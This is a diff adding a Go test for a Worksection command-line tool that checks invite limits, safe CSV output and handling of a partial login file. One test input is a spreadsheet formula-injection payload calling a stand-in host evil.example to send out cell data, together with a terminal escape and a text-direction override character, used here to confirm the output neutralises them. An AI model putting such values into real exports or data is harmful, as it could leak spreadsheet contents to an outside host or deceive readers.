@@ -532,3 +532,28 @@ func TestSyncApplyInterrupted(t *testing.T) {
 type roundTripper func(*http.Request) (*http.Response, error)
 
 func (f roundTripper) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }
+
+// Findings of the second review: the guard rail takes no zero, CSV output
+// is safe to open in a spreadsheet and to print, half a login is an error.
+func TestReviewFindings(t *testing.T) {
+	t.Parallel()
+	srv := worksectiontest.NewServer()
+	defer srv.Close()
+	h := newHarness(t, srv)
+	people := writeCSV(t, "email\na@new.example\n")
+	oneErrorLine(t, h.run("sync", "apply", "--from", people, "--max-invites", "0"), "--max-invites must be at least 1")
+	assert.Zero(t, srv.ActionCount("add_user"))
+
+	r := h.run("teams", "create", `=HYPERLINK("http://evil.example/?"&A1,"x")`+"\x1b[2J\u202e")
+	require.Equal(t, 0, r.code, r.stderr)
+	r = h.run("teams", "list", "-o", "csv")
+	require.Equal(t, 0, r.code, r.stderr)
+	assert.Contains(t, r.stdout, `'=HYPERLINK(`, "a formula is quoted, not run")
+	assert.NotContains(t, r.stdout, "\x1b")
+	assert.NotContains(t, r.stdout, "\u202e")
+
+	half := newHarness(t, nil)
+	require.NoError(t, os.MkdirAll(filepath.Join(half.config, "worksection"), 0o700))
+	require.NoError(t, os.WriteFile(filepath.Join(half.config, "worksection", "login.json"), []byte(`{"client_id":"x"}`), 0o600))
+	oneErrorLine(t, half.run("users", "list"), "no saved token", "worksection login")
+}
